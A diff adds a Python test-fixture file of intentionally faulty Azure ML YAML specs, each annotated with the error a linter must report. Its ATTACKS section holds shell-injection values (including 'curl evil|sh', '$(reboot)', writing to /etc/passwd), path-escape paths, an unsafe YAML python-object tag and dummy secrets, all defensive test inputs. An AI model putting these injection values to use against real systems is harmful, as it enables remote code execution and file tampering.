@@ -1,0 +1,341 @@
+"""Specs that must be refused or warned of, each with what is expected on which line.
+
+`# error: CODE` and `# warning: CODE` at the end of a line say what `ml check` must find there and
+nowhere else. A case begins with the lines of its kind (below), so that it shows only its fault.
+"""
+
+from __future__ import annotations
+
+COMMAND = "command: echo hello\nenvironment: azureml:e:1\n"
+SWEEP = """\
+type: sweep
+trial: {command: "train ${{search_space.rate}}", environment: azureml:e:1}
+objective: {goal: maximize, primary_metric: gain}
+"""
+SPACE = "search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
+LIMITS = "limits: {max_total_trials: 4, max_concurrent_trials: 2}\n"
+PIPELINE = """\
+type: pipeline
+inputs:
+  faq: {type: uri_folder, path: data}
+jobs:
+  prepare:
+    command: prepare ${{inputs.faq}} ${{outputs.prepared}}
+    environment: azureml:e:1
+    inputs: {faq: "${{parent.inputs.faq}}"}
+    outputs: {prepared: {type: uri_folder}}
+"""
+COMPONENT = "type: command\nname: c\nversion: '1'\nenvironment: azureml:e:1\n"
+DEPLOYMENT = """\
+$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineDeployment.schema.json
+name: blue
+endpoint_name: faq
+model: azureml:m:1
+instance_type: Standard_DS3_v2
+"""
+
+# What the SDK refuses, in our words.
+LOADING = {
+    "unknown-field": COMMAND + "enviroment: azureml:e:1  # error: unknown-field\n",
+    "unknown-field-in-flow": COMMAND + "resources: {instance_cout: 2}  # error: unknown-field\n",
+    "unknown-field-of-input": COMMAND
+    + "inputs:\n  faq:\n    type: uri_folder\n    pth: data  # error: unknown-field\n",
+    "unknown-field-of-step": PIPELINE
+    + "  train:\n    command: train\n    environmen: azureml:e:1  # error: unknown-field\n",
+    "missing-field": "$schema: https://azuremlschemas.azureedge.net/latest/commandJob.schema.json"
+    "  # error: missing-field\ncommand: echo\n",
+    "missing-field-of-search-space": SWEEP
+    + "search_space:\n  rate: {type: uniform, min_value: 0}  # error: missing-field\n"
+    + LIMITS,
+    "wrong-type": COMMAND + "resources:\n  instance_count: two  # error: wrong-type\n",
+    "wrong-type-of-command": "command: [echo, hello]  # error: wrong-type\n"
+    "type: command\nenvironment: azureml:e:1\n",
+    "wrong-type-of-inputs": COMMAND + "inputs: [faq]  # error: wrong-type\n",
+    "wrong-type-of-tag": COMMAND + "tags:\n  version: 1  # error: wrong-type\n",
+    "wrong-type-of-timeout": COMMAND + "limits: {timeout: soon}  # error: wrong-type\n",
+    "wrong-type-of-compute": COMMAND + "compute: 3  # error: wrong-type\n",
+    "bad-type-of-input": COMMAND
+    + "inputs:\n  faq:\n    type: uri_foldr  # error: bad-value\n    path: data\n",
+    "bad-mode-of-input": COMMAND
+    + "inputs:\n  faq: {type: uri_folder, path: data, mode: ro_mont}  # error: bad-value\n",
+    "bad-distribution": COMMAND + "distribution: {type: pytorhc}  # error: bad-value\n",
+    "bad-distribution-of-search-space": SWEEP
+    + "search_space:\n  rate: {type: unifrm, min_value: 0, max_value: 1}  # error: bad-value\n"
+    + LIMITS,
+    "bad-goal": SWEEP.replace(
+        "maximize, primary_metric: gain}", "maximise, primary_metric: x}"
+    ).replace("x}", "x}  # error: bad-value")
+    + SPACE
+    + LIMITS,
+    "bad-algorithm": SWEEP + SPACE + LIMITS + "sampling_algorithm: randm  # error: bad-value\n",
+    "bad-job-type": "type: comand  # error: bad-value\ncommand: echo\nenvironment: azureml:e:1\n",
+    "bad-task": "type: automl\ntask: clasification  # error: bad-value\nprimary_metric: accuracy\n",
+    "bad-step-type": PIPELINE
+    + "  train:\n    type: comand  # error: bad-value\n    command: train\n",
+    "environment-without-prefix": "command: echo\nenvironment: e:1  # error: bad-reference\n",
+    "missing-code": COMMAND + "code: nowhere  # error: missing-file\n",
+    "missing-component": PIPELINE + "  train: {component: nowhere.yml}  # error: missing-file\n",
+    "missing-job-of-schedule": "name: s\ncreate_job: nowhere.yml  # error: missing-file\n"
+    "trigger: {type: cron, expression: 0 * * * *}\n",
+    "bad-version-of-data": "type: uri_folder\nname: d\npath: data\n"
+    "version: [1]  # error: wrong-type\n",
+    "unknown-field-of-deployment": DEPLOYMENT
+    + "instance_count: 1\ninstanc_type: x  # error: unknown-field\n",
+}
+
+# What PyYAML lets through.
+YAML = {
+    "duplicate-key": COMMAND + "compute: azureml:a\ncompute: azureml:b  # error: duplicate-key\n",
+    "duplicate-key-inside": COMMAND
+    + "inputs:\n  rate: 1\n  other: 2\n  rate: 3  # error: duplicate-key\n",
+    "duplicate-key-in-flow": COMMAND + "tags: {a: x, a: y}  # error: duplicate-key\n",
+    "duplicate-key-quoted": COMMAND + 'tags: {a: x, "a": y}  # error: duplicate-key\n',
+    "nul": COMMAND + 'display_name: "a\\0b"  # error: nul-character\n',
+    "tab": COMMAND + "tags:\n\ta: b  # error: unreadable-yaml\n",
+    "unclosed": COMMAND + "tags: {a: b\ncompute: c  # error: unreadable-yaml\n",
+    "python-object": COMMAND + "tags: !!python/object:os.system {}  # error: unreadable-yaml\n",
+    "recursive-alias": COMMAND + "tags: &a {again: *a}  # error: recursive-alias\n",
+}
+
+EXPRESSIONS = {
+    "unbound-input": "environment: azureml:e:1\n"
+    "command: echo ${{inputs.zzz}}  # error: unbound-expression\n",
+    "unbound-input-of-some": "environment: azureml:e:1\ninputs: {learning_rate: 1}\n"
+    "command: echo ${{inputs.learnin_rate}}  # error: unbound-expression\n",
+    "unbound-output": "environment: azureml:e:1\noutputs: {model: {type: custom_model}}\n"
+    "command: echo ${{outputs.modle}}  # error: unbound-expression\n",
+    "unbound-in-variable": COMMAND
+    + "environment_variables:\n  RATE: ${{inputs.rate}}  # error: unbound-expression\n",
+    "unbound-search-space": "type: sweep\n"
+    "objective: {goal: maximize, primary_metric: gain}\n"
+    "trial:\n  environment: azureml:e:1\n"
+    "  command: train ${{search_space.rate}} ${{search_space.rat}}  # error: unbound-expression\n"
+    + SPACE
+    + LIMITS,
+    "search-space-without-sweep": "environment: azureml:e:1\n"
+    "command: train ${{search_space.rate}}  # error: unbound-expression\n",
+    "unbound-in-step": PIPELINE + "  train:\n    environment: azureml:e:1\n"
+    "    command: train ${{inputs.nope}}  # error: unbound-expression\n",
+    "unbound-in-component": COMPONENT
+    + "inputs: {rate: {type: number}}\n"
+    + "command: train ${{inputs.rat}}  # error: unbound-expression\n",
+    "unknown-expression": "environment: azureml:e:1\n"
+    "command: echo ${{job.name}}  # warning: unknown-expression\n",
+    "unclosed-expression": "environment: azureml:e:1\n"
+    'command: "echo ${{inputs.rate"  # warning: unknown-expression\ninputs: {rate: 1}\n',
+    "optional-without-brackets": COMPONENT
+    + "inputs: {rate: {type: number, optional: true}}\n"
+    + "command: train ${{inputs.rate}}  # warning: optional-without-brackets\n",
+}
+
+SWEEPS = {
+    "no-search-space": SWEEP.replace("${{search_space.rate}}", "")
+    + LIMITS
+    + "search_space: {}  # error: sweep-without-space\n",
+    "grid-continuous": SWEEP
+    + LIMITS
+    + "sampling_algorithm: grid\n"
+    + SPACE.replace("\n", "  # error: grid-continuous\n"),
+    "grid-continuous-as-mapping": SWEEP
+    + LIMITS
+    + "sampling_algorithm: {type: grid}\nsearch_space:\n  rate:\n"
+    + "    type: quniform  # error: grid-continuous\n"
+    + "    min_value: 0\n    max_value: 9\n    q: 1\n",
+    "bayesian-with-bandit": SWEEP
+    + SPACE
+    + LIMITS
+    + "sampling_algorithm: bayesian\nearly_termination: "
+    + "{type: bandit, slack_factor: 0.1}  # warning: bayesian-early-termination\n",
+    "bayesian-with-normal": SWEEP
+    + LIMITS
+    + "sampling_algorithm: bayesian\nsearch_space:\n  rate:\n"
+    + "    type: normal  # warning: bayesian-distribution\n    mu: 0\n    sigma: 1\n",
+    "log-range": SWEEP
+    + LIMITS
+    + "search_space:\n  rate:  # warning: log-range\n    type: loguniform\n"
+    + "    min_value: 0.001\n    max_value: 0.1\n",
+    "bounds-swapped": SWEEP
+    + LIMITS
+    + "search_space:\n  rate:\n    type: uniform\n"
+    + "    min_value: 1  # error: distribution-bounds\n    max_value: 0\n",
+    "no-width": SWEEP
+    + LIMITS
+    + "search_space: {rate: {type: normal, mu: 0, sigma: 0}}  # error: distribution-bounds\n",
+    "no-choice": SWEEP
+    + LIMITS
+    + "search_space: {rate: {type: choice, values: []}}  # error: distribution-bounds\n",
+    "unused-hyperparameter": SWEEP
+    + LIMITS
+    + "search_space:\n  rate: {type: uniform, min_value: 0, max_value: 1}\n"
+    + "  depth: {type: choice, values: [1, 2]}  # warning: unused-search-space\n",
+    "bandit-without-slack": SWEEP
+    + SPACE
+    + LIMITS
+    + "early_termination: {type: bandit, evaluation_interval: 1}  # error: bandit-without-slack\n",
+    "truncation-of-everything": SWEEP
+    + SPACE
+    + LIMITS
+    + "early_termination:\n  type: truncation_selection\n"
+    + "  truncation_percentage: 100  # error: truncation-percentage\n",
+    "truncation-of-nothing": SWEEP
+    + SPACE
+    + LIMITS
+    + "early_termination:\n  type: truncation_selection\n"
+    + "  truncation_percentage: 0  # error: truncation-percentage\n",
+    "more-at-once-than-in-all": SWEEP
+    + SPACE
+    + "limits:\n  max_total_trials: 4\n  max_concurrent_trials: 8  # error: trial-limits\n",
+    "too-many-trials": SWEEP + SPACE + "limits:\n  max_total_trials: 1001  # error: trial-limits\n",
+    "no-trials": SWEEP + SPACE + "limits:\n  max_total_trials: 0  # error: trial-limits\n",
+    "short-timeout": SWEEP
+    + SPACE
+    + "limits:\n  max_total_trials: 4\n  trial_timeout: 30  # warning: short-timeout\n",
+    "sweep-step": PIPELINE
+    + "  tune:\n    type: sweep\n    trial: component.yml\n"
+    + "    inputs: {data: '${{parent.jobs.prepare.outputs.prepared}}'}\n"
+    + "    objective: {goal: maximize, primary_metric: gain}\n"
+    + "    search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
+    + "    limits: {max_total_trials: 2, max_concurrent_trials: 3}  # error: trial-limits\n",
+}
+
+NUMBERS = {
+    "negative-instances": COMMAND + "resources: {instance_count: -1}  # error: number-too-small\n",
+    "no-instances": COMMAND + "resources:\n  instance_count: 0  # error: number-too-small\n",
+    "negative-processes": COMMAND
+    + "distribution:\n  type: pytorch\n"
+    + "  process_count_per_instance: -2  # error: number-too-small\n",
+    "negative-timeout": COMMAND + "limits:\n  timeout: -5  # error: number-too-small\n",
+    "negative-interval": SWEEP
+    + SPACE
+    + LIMITS
+    + "early_termination:\n  type: median_stopping\n"
+    + "  evaluation_interval: -1  # error: number-too-small\n",
+    "negative-in-deployment": DEPLOYMENT + "instance_count: -1  # error: number-too-small\n",
+}
+
+PIPELINES = {
+    "unknown-step": PIPELINE
+    + "  train:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n"
+    "    inputs:\n      x: ${{parent.jobs.prepar.outputs.prepared}}  # error: unknown-step\n",
+    "unknown-output": PIPELINE + "  train:\n    environment: azureml:e:1\n"
+    "    command: cat ${{inputs.x}}\n    inputs:\n"
+    "      x: ${{parent.jobs.prepare.outputs.prepard}}  # error: unknown-output\n",
+    "unknown-output-of-component": PIPELINE + "  train:\n    component: component.yml\n"
+    "    inputs: {data: '${{parent.inputs.faq}}', rate: 0.5}\n"
+    "  use:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n    inputs:\n"
+    "      x: ${{parent.jobs.train.outputs.modle}}  # error: unknown-output\n",
+    "unknown-parent-input": PIPELINE + "  train:\n    environment: azureml:e:1\n"
+    "    command: cat ${{inputs.x}}\n    inputs:\n"
+    "      x: ${{parent.inputs.fak}}  # error: unknown-parent\n",
+    "unknown-parent-output": PIPELINE + "  train:\n    environment: azureml:e:1\n"
+    "    command: train ${{outputs.model}}\n    outputs:\n"
+    "      model: ${{parent.outputs.model}}  # error: unknown-parent\n",
+    "cycle": "type: pipeline\njobs:\n  a:  # error: pipeline-cycle\n    environment: azureml:e:1\n"
+    "    command: a ${{inputs.x}} ${{outputs.y}}\n    outputs: {y: {type: uri_folder}}\n"
+    "    inputs: {x: '${{parent.jobs.b.outputs.y}}'}\n  b:\n    environment: azureml:e:1\n"
+    "    command: b ${{inputs.x}} ${{outputs.y}}\n    outputs: {y: {type: uri_folder}}\n"
+    "    inputs: {x: '${{parent.jobs.a.outputs.y}}'}\n",
+    "missing-input": PIPELINE + "  train:\n    component: component.yml\n"
+    "    inputs: {rate: 0.5}  # error: missing-input\n",
+    "unknown-input": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n      rat: 1  # warning: unknown-input\n",
+    "input-over-range": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 1.5  # error: input-range\n",
+    "input-of-wrong-type": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
+    "      rounds: 2.5  # error: input-range\n",
+    "input-no-boolean": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
+    "      fast: quick  # error: input-range\n",
+    "input-not-in-enumeration": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
+    "      kind: grand  # error: input-range\n",
+    "port-bounds-swapped": COMPONENT + "command: c ${{inputs.x}}\n"
+    "inputs:\n  x:\n    type: number\n    min: 2  # error: port-range\n    max: 1\n",
+    "port-default-out-of-range": COMPONENT + "command: c ${{inputs.x}}\n"
+    "inputs:\n  x:\n    type: integer\n    max: 5\n    default: 9  # error: port-range\n",
+}
+
+ATTACKS = {
+    "command-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    'inputs:\n  x: "1; curl evil|sh"  # error: shell-metacharacter\n',
+    "substitution-in-double-quotes": "environment: azureml:e:1\n"
+    'command: train "${{inputs.x}}"\ninputs:\n  x: $(reboot)  # error: shell-metacharacter\n',
+    "quote-out-of-single-quotes": "environment: azureml:e:1\ncommand: train '${{inputs.x}}'\n"
+    "inputs:\n  x: a' b  # error: shell-metacharacter\n",
+    "newline-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    "inputs:\n  x: |  # error: shell-metacharacter\n    1\n    reboot\n",
+    "backtick-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    "inputs:\n  x: '`id`'  # error: shell-metacharacter\n",
+    "argument-of-bash": "environment: azureml:e:1\ncommand: bash -c 'train ${{inputs.x}}'\n"
+    "inputs:\n  x: 1 & reboot  # error: shell-metacharacter\n",
+    "in-here-document": "environment: azureml:e:1\n"
+    "command: \"cat <<END\\n'${{inputs.x}}'\\nEND\"\n"
+    "inputs:\n  x: $(id)  # error: shell-metacharacter\n",
+    "choice-that-is-a-command": SWEEP
+    + LIMITS
+    + "search_space:\n  rate:\n    type: choice\n    values:\n      - plain\n"
+    + "      - a > /etc/passwd  # error: shell-metacharacter\n",
+    "literal-of-pipeline": "type: pipeline\ninputs:\n"
+    "  x: a; b  # error: shell-metacharacter\njobs:\n"
+    "  s:\n    environment: azureml:e:1\n    command: train ${{inputs.y}}\n"
+    "    inputs: {y: '${{parent.inputs.x}}'}\n",
+    "literal-into-component": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
+    "      note: $(id)  # error: shell-metacharacter\n",
+    "path-out-of-repository": COMMAND
+    + "inputs:\n  x: {type: uri_folder, path: ../outside}  # error: path-escape\n",
+    "path-far-out": COMMAND
+    + "inputs:\n  x:\n    path: ../../../../../../etc  # error: path-escape\n",
+    "absolute-path": COMMAND + "inputs:\n  x: {path: /etc/passwd}  # error: path-escape\n",
+    "file-url": COMMAND + "inputs:\n  x: {path: 'file:///etc/passwd'}  # error: path-escape\n",
+    "code-out-of-repository": COMMAND + "code: ../outside  # error: path-escape\n",
+    "data-out-of-repository": "type: uri_folder\nname: d\nversion: '1'\n"
+    "path: ../outside  # error: path-escape\n",
+    "component-out-of-repository": PIPELINE
+    + "  train: {component: ../outside/secret.txt}  # error: path-escape\n",
+    "secret-in-variable": COMMAND
+    + "environment_variables:\n  AZURE_CLIENT_SECRET: hunter2hunter2  # error: plaintext-secret\n",
+    "password-in-variable": COMMAND
+    + "environment_variables: {DB_PASSWORD: swordfish}  # error: plaintext-secret\n",
+    "secret-in-literal": COMMAND + "inputs:\n  api_key: abcd1234efgh  # error: plaintext-secret\n",
+    "secret-in-command": "environment: azureml:e:1\n"
+    "command: export API_TOKEN=abc123def456 && train  # error: plaintext-secret\n",
+    "sas-in-path": COMMAND + "inputs:\n  x:\n    type: uri_file\n    path: "
+    "https://a.blob.core.windows.net/c/f?sv=2022&se=2030&sig=Zm9vYmFyYmF6Zm9vYmFy%3D"
+    "  # error: plaintext-secret\n",
+    "connection-string": COMMAND
+    + "environment_variables:\n  STORE: DefaultEndpointsProtocol=https;"
+    "AccountName=a;AccountKey=Zm9vYmFyYmF6Zm9vYmFyYmF6Zm9vYmFy==  # error: plaintext-secret\n",
+    "password-in-url": COMMAND + "environment_variables:\n"
+    "  STORE: postgres://me:swordfish@db.example.org/x  # error: plaintext-secret\n",
+    "key-of-datastore": "type: azure_blob\nname: d\naccount_name: a\ncontainer_name: c\n"
+    "credentials:\n  account_key: Zm9vYmFyYmF6  # error: plaintext-secret\n",
+    "missing-data": COMMAND
+    + "inputs:\n  x: {type: uri_folder, path: nowhere}  # error: missing-file\n",
+}
+
+SCHEDULES = {
+    name: f"name: s\ncreate_job: azureml:j\ntrigger:\n  type: cron\n"
+    f'  expression: "{expression}"  # error: bad-cron\n'
+    for name, expression in {
+        "cron-of-four-fields": "0 * * *",
+        "cron-minute-60": "60 * * * *",
+        "cron-hour-24": "0 24 * * *",
+        "cron-day-0": "0 0 0 * *",
+        "cron-month-name": "0 0 1 juno13 *",
+        "cron-words": "every day at ten o'clock",
+        "cron-step-0": "*/0 * * * *",
+        "cron-range-backwards": "30-10 * * * *",
+    }.items()
+} | {
+    "recurrence-hour-25": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
+    "  frequency: day\n  interval: 1\n  schedule:\n"
+    "    hours: [4, 25]  # error: bad-recurrence\n    minutes: 0\n",
+    "recurrence-interval-0": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
+    "  frequency: day\n  interval: 0  # error: bad-recurrence\n",
+}
+
+CASES = {
+    **LOADING, **YAML, **EXPRESSIONS, **SWEEPS, **NUMBERS, **PIPELINES, **ATTACKS, **SCHEDULES
+}  # fmt: skip
